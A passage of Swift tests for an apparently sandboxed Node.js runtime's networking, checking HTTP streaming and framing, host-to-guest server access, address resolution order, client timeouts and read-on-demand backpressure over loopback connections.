        let (result, output) = try await exec("""
            const http = require('http');
            let pending;
            const server = http.createServer((req, res) => {
              if (req.url === '/go') { pending.end('-end'); res.end('ok'); return; }
              if (req.url === '/head') { res.end('ok'); return; }
              res.writeHead(200, { 'Content-Type': 'text/plain' });
              res.write('first');
              pending = res;
            });
            server.listen(0, async () => {
              const port = server.address().port;
              const r = await fetch(`http://127.0.0.1:${port}/stream`);
              console.log(r.headers.get('transfer-encoding'), r.headers.get('content-length'));
              const reader = r.body.getReader();
              const decoder = new TextDecoder();
              console.log(decoder.decode((await reader.read()).value));
              console.log(await (await fetch(`http://127.0.0.1:${port}/go`)).text());
              let rest = '';
              for (;;) { const { done, value } = await reader.read(); if (done) break; rest += decoder.decode(value); }
              console.log(rest);
              // HEAD carries no body, nor (as in Node) a length for the body it would have had.
              const h = await fetch(`http://127.0.0.1:${port}/head`, { method: 'HEAD' });
              console.log(h.status, h.headers.get('content-length'), h.body);
              server.close();
            });
            """, networkDriver())
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "chunked null\nfirst\nok\n-end\n200 null null\n")
    }

    /// A streamed answer whose length the guest set is framed by that length (no chunks, the
    /// connection kept alive), and its head leaves with the first part, in one packet as Node
    /// sends it — so a client that reacts to the head already has the body.
    @Test func aStreamedAnswerKeepsTheGuestsLengthAndLeavesWithItsFirstPart() async throws {
        let (result, output) = try await exec("""
            const http = require('http');
            const net = require('net');
            const server = http.createServer((req, res) => {
              res.writeHead(200, { 'Content-Length': 12 });
              res.write('hello world\\n');
              res.end();
            });
            server.listen(0, () => {
              const socket = net.connect(server.address().port, '127.0.0.1', () => {
                socket.write('GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: keep-alive\\r\\n\\r\\n');
              });
              socket.once('data', (data) => {
                const text = data.toString().replace(/Date: [^\\r]*\\r\\n/, '');
                console.log(JSON.stringify(text));
                socket.destroy();
                server.close();
              });
            });
            """, networkDriver())
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == #""HTTP/1.1 200 OK\r\nContent-Length: 12\r\nConnection: keep-alive\r\nKeep-Alive: timeout=5\r\n\r\nhello world\n""# + "\n")
    }

    @Test(.timeLimit(.minutes(1))) func theHostReachesASandboxServer() async throws {
        let (lines, continuation) = AsyncStream<String>.makeStream()
        let output = Output()
        let runtime = try NodeRuntime(systemDriver: networkDriver(), isolation: testIsolation, onStdio: { event in
            output.handler(event)
            continuation.yield(event.message)
        })
        let call = Task {
            try await runtime.exec("""
                const server = require('http').createServer((req, res) => {
                  let body = '';
                  req.on('data', (c) => body += c);
                  req.on('end', () => {
                    res.setHeader('X-Seen', req.method + ' ' + req.url);
                    res.end('echo ' + body);
                    if (body === 'stop') server.close();
                  });
                });
                server.listen(4000, () => console.log('up'));
                """)
        }
        // The guest says when its server listens.
        for await line in lines where line.contains("up") { break }
        let servers = runtime.network.servers
        #expect(servers.map(\.guestPort) == [4000])
        #expect(servers.first?.kind == .http)
        let response = try await runtime.network.fetch(port: 4000, path: "/x?y=1", method: "POST", body: Array("hello".utf8))
        #expect(response.status == 200)
        #expect(String(decoding: response.body, as: UTF8.self) == "echo hello")
        #expect(response.headers.first { $0.name.lowercased() == "x-seen" }?.value == "POST /x?y=1")
        let hostPort = try #require(servers.first?.hostPort)
        _ = try await runtime.network.fetch(port: 4000, method: "POST", body: Array("stop".utf8))
        let result = try await call.value
        #expect(result.code == 0)
        #expect(output.stdout == "up\n")
        #expect(runtime.network.servers.isEmpty)
        await #expect(throws: NetworkError.self) { try await runtime.network.fetch(port: 4000) }
        #expect(hostPort > 0)
        await runtime.dispose()
    }

    @Test func everyCheckedAddressIsTriedInOrder() async throws {
        let server = try await LoopbackServer.start()
        defer { Task { await server.stop() } }
        let log = NetworkLog()
        // `::1` first (nothing listens there), then 127.0.0.1: both checked, the second answers.
        let (_, output) = try await exec("""
            console.log(await (await fetch('http://dual.test:\(server.port)/')).text());
            """, networkDriver(exempt: [server.port], check: log.check(),
                               resolver: { _ in [IPAddress("::1")!, IPAddress("127.0.0.1")!] }))
        #expect(output.stdout == "hello\n")
        #expect(log.requests.last?.resolvedAddresses == ["::1", "127.0.0.1"])
    }

    @Test func httpClientDetails() async throws {
        let (result, output) = try await exec("""
            const http = require('http');
            try { http.get('https://example.com/') } catch (e) { console.log(e.code) }
            const server = http.createServer(() => { /* never answers */ });
            server.listen(0, () => {
              const req = http.get({ port: server.address().port, host: '127.0.0.1', timeout: 50 });
              req.on('timeout', () => { console.log('timeout'); req.destroy(); server.close(); });
              req.on('error', (e) => console.log('error', e.code));
            });
            """, networkDriver())
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "ERR_INVALID_PROTOCOL\ntimeout\nerror ECONNRESET\n")  // as node22: destroyed before an answer
    }

    /// The client reads only when it asks (backpressure to the host socket): a paused reader
    /// still receives every byte once it resumes, and a slow one gets them all in order.
    @Test(.timeLimit(.minutes(1))) func netSocketsReadOnDemand() async throws {
        let (result, output) = try await exec("""
            const net = require('net');
            const chunk = Buffer.alloc(256 * 1024, 'x');
            const server = net.createServer((socket) => {
              let n = 0;
              const more = () => {
                while (n < 16) { n++; if (!socket.write(chunk)) { socket.once('drain', more); return; } }
                socket.end();
              };
              more();
            });
            server.listen(0, () => {
              const c = net.connect(server.address().port, '127.0.0.1');
              let bytes = 0, paused = 0;
              c.on('data', (d) => {
                bytes += d.length;
                if (paused < 3 && bytes > (paused + 1) * 1024 * 1024) { paused++; c.pause(); setTimeout(() => c.resume(), 5); }
              });
              c.on('end', () => { console.log(bytes, paused); server.close(); });
            });
            """, networkDriver())
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "4194304 3\n")
    }

    /// Response bodies are read from the server as the guest consumes them; a body nobody reads
    /// does not keep the call alive.
    @Test(.timeLimit(.minutes(1))) func responseBodiesAreReadOnDemand() async throws {
        let server = try await LoopbackServer.start { _ in LoopbackServer.Response(body: String(repeating: "y", count: 4 << 20)) }
        defer { Task { await server.stop() } }
        let (result, output) = try await exec("""
            const http = require('http');
            const url = 'http://127.0.0.1:\(server.port)/';
            const unread = await fetch(url);
            console.log(unread.status);
            const r = await fetch(url);
            const reader = r.body.getReader();
            let bytes = 0;
            for (;;) {
              const { done, value } = await reader.read();
              if (done) break;
              bytes += value.length;
              await new Promise((resolve) => setTimeout(resolve, 0));
            }
            console.log(bytes);
            http.get(url, (res) => {
              let n = 0;
              res.on('data', (d) => { n += d.length; if (n < 1 << 20) { res.pause(); setTimeout(() => res.resume(), 1); } });
              res.on('end', () => console.log('http', n));
            });
            """, networkDriver(exempt: [server.port]))
        #expect(result.code == 0, "\(result)")
        #expect(output.stdout == "200\n4194304\nhttp 4194304\n")
    }
}
